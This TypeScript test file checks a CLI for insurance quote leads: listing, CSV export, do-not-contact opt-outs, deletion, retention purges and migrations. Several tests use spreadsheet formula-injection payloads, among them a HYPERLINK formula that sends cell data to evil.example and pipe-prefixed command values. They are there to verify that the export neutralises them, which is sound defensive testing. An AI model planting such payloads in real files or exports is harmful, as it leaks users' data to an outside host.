import { lstatSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { quoteEstimate } from '../../content/data/insurer-plans/claims';
import { type Db, DbTimeoutError } from '../../server/db';
import { migrations } from '../../server/db/migrations';
import { createPgDb } from '../../server/db/pg';
import { withLicense } from '../../server/leads/prepare';
import { LeadsLog } from '../../server/outbox/leads-log';
import { sampleLead, storeLead } from '../../tests/fixtures/leads';
import { testBackends, useTestDb } from '../../tests/setup/db';
import { CliError } from '../errors';
import { buildProgram } from '../program';
import { csvCell, toCsv } from './leads-export';
import type { DbDeps } from './leads-shared';

const root = mkdtempSync(join(tmpdir(), 'cli-leads-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('CSV export cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['=1+1', `"'=1+1"`],
    [' =1+1', `"' =1+1"`],
    ['   @SUM(A1)', `"'   @SUM(A1)"`],
    ['Bob;=1+1', `"'Bob;=1+1"`],
    ['a;b', `"'a;b"`],
    ['+1 555 210 0142', `"'+1 555 210 0142"`],
    ['-2', `"'-2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['|cmd', `"'|cmd"`],
    ['\tcmd', `"'\tcmd"`],
    ['\r=cmd', `"'\r=cmd"`],
    ['\n=cmd', `"'\n=cmd"`],
    ['Mary Smith', '"Mary Smith"'],
    ['Smith, Mary', '"Smith, Mary"'],
    ['Mary "Mae" Smith', '"Mary ""Mae"" Smith"'],
    ['line\nbreak', '"line\nbreak"'],
    ['a=b', '"a=b"'],
    ['a-b', '"a-b"'],
    ['', '""'],
  ])('%j becomes %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('quotes numbers, booleans, dates and empty values too', () => {
    expect(csvCell(67)).toBe('"67"');
    expect(csvCell(true)).toBe('"true"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell(new Date('2026-03-01T14:05:00Z'))).toBe('"2026-03-01T14:05:00.000Z"');
  });

  it('takes linear time on a long run of spaces', () => {
    const value = `${' '.repeat(200_000)}x`;
    expect(csvCell(value)).toBe(`"${value}"`);
  });

  it('writes a header and CRLF line ends', () => {
    const csv = toCsv([]);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[0]?.split(',').slice(0, 5)).toEqual([
      '"id"',
      '"created_at"',
      '"gender"',
      '"age"',
      '"tobacco"',
    ]);
  });
});

describe.each(testBackends)('leads commands on $name', { timeout: 30_000 }, (backend) => {
  const db = useTestDb(backend);
  // The commands close the database when done: hand them a handle whose close does nothing.
  const deps: DbDeps = {
    openDb: async () => ({ ...db, kind: db.kind, query: db.query, transaction: db.transaction, close: async () => {} }),
    describe: () => `test ${backend.name}`,
  };

  async function run(...args: string[]): Promise<string[]> {
    const lines: string[] = [];
    await buildProgram((line) => lines.push(line), deps).parseAsync(['node', 'cli', ...args]);
    return lines;
  }

  const store = (overrides = {}) => storeLead(db, sampleLead(overrides), { ip: '127.0.0.1' }, { channels: ['log'] });

  it('leads list prints one line per lead, and --json the rows', async () => {
    const lead = await store({ name: 'Mary Listed', phone: '(555) 210-0177' });
    await store({ company: 'bot' });
    const lines = await run('leads', 'list');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain('Mary Listed | (555) 210-0177 |');
    expect(lines[0]).toContain('43215 Columbus, OH | 67 female tobacco:no | log:pending');
    // The estimate the visitor was shown, for $10,000 (a woman of 67, no tobacco).
    expect(lines[0]).toContain(
      '| estimate $10,000: United of Omaha Life Insurance Company Living Promise Whole Life, Level Benefit Plan (level benefit): no published price',
    );
    expect(lines[1]).toBe('1 lead(s)');

    const json = JSON.parse((await run('leads', 'list', '--json')).join('\n')) as Array<{
      id: string;
      estimate: unknown;
    }>;
    expect(json.map((row) => row.id)).toEqual([lead.id]);
    expect(json[0]?.estimate).toEqual(
      withLicense(quoteEstimate({ sex: 'female', age: 67, tobacco: false, state: 'OH' }), 'OH'),
    );
    const all = JSON.parse((await run('leads', 'list', '--json', '--include-spam')).join('\n')) as unknown[];
    expect(all).toHaveLength(2);
  });

  it("leads list marks a quote asked for a parent (the facts are the parent's, the contact the visitor's)", async () => {
    await store({ name: 'Dana Helper', quoteFor: 'parent', age: '84' });
    await store({ name: 'Mary Own' });
    const lines = await run('leads', 'list');
    expect(lines[0]).toContain('Dana Helper |');
    expect(lines[0]).toContain('| FOR-PARENT 84 female tobacco:no |');
    expect(lines[1]).toContain('| 67 female tobacco:no |');
    expect(lines[1]).not.toContain('FOR-PARENT');
    const json = JSON.parse((await run('leads', 'list', '--json')).join('\n')) as Array<{ quote_for: string }>;
    expect(json.map((row) => row.quote_for)).toEqual(['parent', 'self']);
  });

  it('leads list --since filters by date or age, and refuses a bad date', async () => {
    const old = await store();
    await db.query(`UPDATE quote_submissions SET created_at = now() - interval '10 days' WHERE id = $1`, [old.id]);
    const recent = await store();
    const ids = async (...args: string[]) =>
      (JSON.parse((await run('leads', 'list', '--json', ...args)).join('\n')) as Array<{ id: string }>).map(
        (r) => r.id,
      );
    expect(await ids('--since', '7d')).toEqual([recent.id]);
    expect(await ids('--since', new Date(Date.now() - 20 * 86_400_000).toISOString().slice(0, 10))).toEqual([
      old.id,
      recent.id,
    ]);
    await expect(run('leads', 'list', '--since', 'last week')).rejects.toThrow(
      '--since must be a date like 2026-03-01, a date-time, or an age like 7d, 24h (got "last week")',
    );
  });

  it('leads export --format csv neutralises formulas, to stdout or a file', async () => {
    await store({ name: '=HYPERLINK("http://evil.example","x")' });
    await store({ name: '@SUM(1+1)' });
    await store({ attribution: { utm_campaign: ' =1+1' } });
    await store({ name: 'Bob;=1+1' });
    const csv = (await run('leads', 'export', '--format', 'csv')).join('\n');
    const lines = csv.split('\r\n');
    expect(lines).toHaveLength(5);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csv).toContain(`,"'@SUM(1+1)",`);
    expect(csv).toContain(`,"' =1+1",`);
    expect(csv).toContain(`,"'Bob;=1+1",`);
    expect(csv).not.toMatch(/(^|,)"\s*[=@+\-|]/m);

    const out = join(root, `leads-${backend.name}.csv`);
    expect(await run('leads', 'export', '--format', 'csv', '--out', out)).toEqual([`ok: wrote 4 lead(s) to ${out}`]);
    expect(readFileSync(out, 'utf8')).toBe(`${csv}\r\n`);
    expect(statSync(out).mode & 0o777).toBe(0o600);

    // Over an existing file readable by all, and over a symbolic link: 0600, and the link's target untouched (issue 27).
    const open = join(root, `open-${backend.name}.csv`);
    writeFileSync(open, 'old', { mode: 0o644 });
    await run('leads', 'export', '--format', 'csv', '--out', open);
    expect(statSync(open).mode & 0o777).toBe(0o600);
    expect(readFileSync(open, 'utf8')).toBe(`${csv}\r\n`);
    const target = join(root, `target-${backend.name}.txt`);
    writeFileSync(target, 'not yours', { mode: 0o644 });
    const link = join(root, `link-${backend.name}.csv`);
    symlinkSync(target, link);
    await run('leads', 'export', '--format', 'csv', '--out', link);
    expect(readFileSync(target, 'utf8')).toBe('not yours');
    expect(lstatSync(link).isSymbolicLink()).toBe(false);
    expect(statSync(link).mode & 0o777).toBe(0o600);

    await expect(run('leads', 'export', '--format', 'xlsx')).rejects.toThrow('--format must be csv');
  });

  it('leads opt-out adds a phone or an e-mail and flags the leads that carry it', async () => {
    const lead = await store({ phone: '(555) 210-0199' });
    expect(await run('leads', 'opt-out', '--phone', '555.210.0199')).toEqual([
      'ok: 5552100199 added to the do-not-contact list; 1 lead(s) flagged, 1 notification(s) cancelled',
    ]);
    expect(await run('leads', 'opt-out', '--phone', '5552100199')).toEqual([
      'ok: 5552100199 was already on the do-not-contact list; 0 lead(s) flagged, 0 notification(s) cancelled',
    ]);
    const flagged = await db.query('SELECT do_not_contact FROM quote_submissions WHERE id = $1', [lead.id]);
    expect(flagged.rows).toEqual([{ do_not_contact: true }]);
    const byEmail = JSON.parse((await run('leads', 'opt-out', '--email', 'Someone@Example.com', '--json')).join(''));
    expect(byEmail).toEqual({
      email: 'someone@example.com',
      added: true,
      leadsFlagged: 0,
      notificationsCancelled: 0,
      spellings: [],
    });

    await expect(run('leads', 'opt-out')).rejects.toThrow('give exactly one of --phone <number> or --email <address>');
    await expect(run('leads', 'opt-out', '--phone', '1', '--email', 'a@b.co')).rejects.toBeInstanceOf(CliError);
    await expect(run('leads', 'opt-out', '--phone', '555-0100')).rejects.toThrow(
      '--phone must be a 10-digit US phone number (got "555-0100")',
    );
  });

  it('leads retry-notifications puts dead jobs back and prints the count', async () => {
    await store();
    await store();
    await db.query(`UPDATE lead_notifications SET status = 'dead', attempts = 8, last_error = 'boom'`);
    expect(await run('leads', 'retry-notifications')).toEqual(['ok: 2 dead notification(s) back to pending']);
    const jobs = await db.query<{ status: string; attempts: number }>(
      'SELECT status, attempts FROM lead_notifications',
    );
    expect(jobs.rows).toEqual([
      { status: 'pending', attempts: 0 },
      { status: 'pending', attempts: 0 },
    ]);
    expect(await run('leads', 'retry-notifications', '--json')).toEqual(['{"retried":0}']);
  });

  it("leads delete removes a person's leads, jobs and leads.log lines; --dry-run changes nothing", async () => {
    const dataDir = mkdtempSync(join(root, `delete-${backend.name}-`));
    process.env.DATA_DIR = dataDir;
    try {
      const gone = await store({ phone: '(555) 210-0133', email: 'gone@example.com' });
      const kept = await store({ phone: '(555) 210-0144' });
      const log = new LeadsLog({ dir: dataDir });
      await log.append({ leadId: gone.id, createdAt: new Date().toISOString() });
      await log.append({ leadId: kept.id, createdAt: new Date().toISOString() });

      // PostgreSQL keeps rate-limit rows, keyed by the form token secret this test gives no one.
      const notSearched =
        backend.name === 'postgres'
          ? '; rate-limit rows not searched (their key, FORM_TOKEN_SECRET, is unknown here)'
          : '';
      const dry = await run('leads', 'delete', '--phone', '555-210-0133', '--opt-out', '--dry-run');
      expect(dry[0]).toMatch(new RegExp(`^would remove lead ${gone.id} of \\d{4}-\\d{2}-\\d{2}$`));
      expect(dry[1]).toBe(
        `dry run: would remove 1 lead(s), 1 notification(s), and their lines in leads.log in ${dataDir}; would add to do-not-contact: 5552100133, gone@example.com${notSearched}`,
      );
      expect((await db.query('SELECT id FROM quote_submissions')).rows).toHaveLength(2);
      expect((await db.query('SELECT id FROM do_not_contact')).rows).toHaveLength(0);

      const done = await run('leads', 'delete', '--phone', '555-210-0133', '--opt-out');
      expect(done[1]).toBe(
        `ok: removed 1 lead(s), 1 notification(s), 1 line(s) from leads.log in ${dataDir}; added to do-not-contact: 5552100133, gone@example.com${notSearched}`,
      );
      expect(done[2]).toBe(
        backend.name === 'pglite'
          ? 'disk: VACUUM (FULL, ANALYZE) quote_submissions, lead_notifications, rate_limit_hits; SET wal_recycle = off; SELECT pg_switch_wal(); CHECKPOINT; SELECT pg_switch_wal(); CHECKPOINT'
          : 'disk: VACUUM (ANALYZE) quote_submissions, lead_notifications, rate_limit_hits',
      );
      // The consent proof stays apart, for TCPA only (issue 30, point 8).
      expect(done[3]).toBe(
        'kept 1 consent record(s) apart (consent text, time, IP, browser, a keyed hash of the phone) for 1461 days from the consent, as TCPA proof only',
      );
      // Kept as a keyed hash, never in clear (issue 44).
      expect((await db.query('SELECT phone, length(phone_hash) AS n FROM consent_records')).rows).toEqual([
        { phone: null, n: 64 },
      ]);
      // A complaint about the number finds the record by its hash (issue 44).
      const consent = await run('leads', 'consent', '--phone', '(555) 210-0133', '--json');
      expect((JSON.parse(consent.join('')) as Array<{ lead_id: string }>).map((r) => r.lead_id)).toEqual([gone.id]);
      expect((await db.query<{ id: string }>('SELECT id FROM quote_submissions')).rows).toEqual([{ id: kept.id }]);
      expect((await db.query('SELECT id FROM lead_notifications WHERE lead_id = $1', [gone.id])).rows).toHaveLength(0);
      const logText = (await log.rotatedFiles()).map((name) => readFileSync(join(dataDir, name), 'utf8')).join('');
      expect(logText).not.toContain(gone.id);
      expect(logText).toContain(kept.id);

      const byId = JSON.parse((await run('leads', 'delete', '--id', kept.id.toUpperCase(), '--json')).join(''));
      expect(byId).toMatchObject({ dryRun: false, notifications: 1, leadsLogLines: 1, optedOut: [] });
      expect(byId.leads.map((lead: { id: string }) => lead.id)).toEqual([kept.id]);
      // The deletes that kept a consent record needed the key of its phone hash: on PostgreSQL they
      // made the servers' secret (issue 44), which is also the rate-limit rows' key.
      expect(await run('leads', 'delete', '--email', 'nobody@example.com')).toEqual([
        `ok: removed 0 lead(s), 0 notification(s), 0 line(s) from leads.log in ${dataDir}${backend.name === 'postgres' ? ', 0 rate-limit row(s)' : ''}`,
      ]);

      // By e-mail: every spelling of the inbox, each named in the dry run (issue 27).
      const a = await store({ phone: '(555) 210-0171', email: 'Pat.Lee+quote@gmail.com' });
      const b = await store({ phone: '(555) 210-0172', email: 'patlee@googlemail.com' });
      const c = await store({ phone: '(555) 210-0173', email: 'patlee+quote@example.com' });
      const spellingsDry = await run('leads', 'delete', '--email', 'patlee@gmail.com', '--dry-run');
      expect(spellingsDry.filter((line) => line.startsWith('would remove lead'))).toHaveLength(2);
      expect(spellingsDry.join('\n')).toContain(a.id);
      expect(spellingsDry.join('\n')).toContain(b.id);
      expect(spellingsDry.join('\n')).not.toContain(c.id);
      expect(spellingsDry).toContain(
        'e-mail matched by its inbox, spellings found: pat.lee+quote@gmail.com, patlee@googlemail.com',
      );
      const spellingsGone = await run('leads', 'delete', '--email', 'PATLEE@gmail.com');
      expect(spellingsGone.find((line) => line.startsWith('ok:'))).toMatch(/^ok: removed 2 lead\(s\)/);
      expect((await db.query('SELECT id FROM quote_submissions WHERE id = $1', [c.id])).rows).toHaveLength(1);

      await expect(run('leads', 'delete')).rejects.toThrow(
        'give exactly one of --id <lead id>, --phone <number> or --email <address>',
      );
      await expect(run('leads', 'delete', '--id', 'x', '--phone', '5552100133')).rejects.toBeInstanceOf(CliError);
      await expect(run('leads', 'delete', '--id', '42')).rejects.toThrow('--id must be a lead id');
      await expect(run('leads', 'delete', '--email', 'nope')).rejects.toThrow('--email must be an e-mail address');
    } finally {
      delete process.env.DATA_DIR;
    }
  });

  it('leads purge enforces LEAD_RETENTION_DAYS and SPAM_RETENTION_DAYS, in the database and leads.log', async () => {
    const dataDir = mkdtempSync(join(root, `purge-${backend.name}-`));
    Object.assign(process.env, { DATA_DIR: dataDir, LEAD_RETENTION_DAYS: '100', SPAM_RETENTION_DAYS: '10' });
    try {
      const old = await store();
      const recent = await store();
      const spam = await store({ company: 'bot' });
      await db.query(`UPDATE quote_submissions SET created_at = now() - interval '101 days' WHERE id = $1`, [old.id]);
      await db.query(`UPDATE quote_submissions SET created_at = now() - interval '11 days' WHERE id = $1`, [spam.id]);
      const log = new LeadsLog({ dir: dataDir });
      await log.append({ leadId: old.id, createdAt: new Date(Date.now() - 101 * 86_400_000).toISOString() });
      await log.append({ leadId: recent.id, createdAt: new Date().toISOString() });

      expect(await run('leads', 'purge', '--dry-run')).toEqual([
        'dry run: would remove 1 lead(s) older than 100 days, 1 spam older than 10 days, 1 notification(s); would empty 0 delivered payload(s)',
      ]);
      expect((await db.query('SELECT id FROM quote_submissions')).rows).toHaveLength(3);
      expect(await run('leads', 'purge')).toEqual([
        'ok: removed 1 lead(s) older than 100 days, 1 spam older than 10 days, 1 notification(s); emptied 0 delivered payload(s); 1 line(s) from leads.log',
      ]);
      expect((await db.query<{ id: string }>('SELECT id FROM quote_submissions')).rows).toEqual([{ id: recent.id }]);
      const logText = (await log.rotatedFiles()).map((name) => readFileSync(join(dataDir, name), 'utf8')).join('');
      expect(logText).not.toContain(old.id);
      expect(logText).toContain(recent.id);
      expect(JSON.parse((await run('leads', 'purge', '--json')).join(''))).toEqual({
        dryRun: false,
        leadDays: 100,
        spamDays: 10,
        leads: 0,
        spam: 0,
        notifications: 0,
        payloadsEmptied: 0,
        rateLimitRows: 0,
        batchSize: backend.name === 'pglite' ? 50 : 500,
        consentDays: 1461,
        consentRecordsKept: 0,
        consentRecordsRemoved: 0,
        leadsLogLines: 0,
      });
      process.env.LEAD_RETENTION_DAYS = 'forever';
      await expect(run('leads', 'purge')).rejects.toThrow('LEAD_RETENTION_DAYS must be an integer from 1 to 36500');
    } finally {
      for (const name of ['DATA_DIR', 'LEAD_RETENTION_DAYS', 'SPAM_RETENTION_DAYS']) delete process.env[name];
    }
  });

  it('db migrate reports an up-to-date schema', async () => {
    const version = Math.max(...migrations.map((m) => m.version));
    expect(await run('db', 'migrate')).toEqual([`ok: test ${backend.name} is up to date (schema version ${version})`]);
  });
});

describe('leads commands without a database', () => {
  it('say clearly that the database cannot be reached', async () => {
    let opened: Db | undefined;
    const deps: DbDeps = {
      openDb: async () => {
        opened = createPgDb({ connectionString: 'postgres://postgres@127.0.0.1:1/none', timeoutMs: 500 });
        return opened;
      },
      describe: () => 'PostgreSQL at 127.0.0.1:1/none',
    };
    const program = buildProgram(() => {}, deps);
    await expect(program.parseAsync(['node', 'cli', 'leads', 'list'])).rejects.toThrow(
      /^Cannot reach PostgreSQL at 127\.0\.0\.1:1\/none: Database unavailable: connect ECONNREFUSED/,
    );
    expect(opened).toBeDefined();
  });

  it('say that a statement timed out, not that the database cannot be reached, when it answered too slowly', async () => {
    const slow = () =>
      Promise.reject(new DbTimeoutError('Database statement timed out: canceling statement due to statement timeout'));
    const deps: DbDeps = {
      openDb: async () => ({ kind: 'postgres', query: slow, transaction: slow, session: slow, close: async () => {} }),
      describe: () => 'PostgreSQL at 127.0.0.1:5432/leads',
    };
    const program = buildProgram(() => {}, deps);
    const failure = program.parseAsync(['node', 'cli', 'leads', 'purge']);
    await expect(failure).rejects.toThrow(
      /^Timed out: PostgreSQL at 127\.0\.0\.1:5432\/leads answered, but a statement ran past its time limit/,
    );
    await expect(failure).rejects.not.toThrow(/Cannot reach/);
  });
});
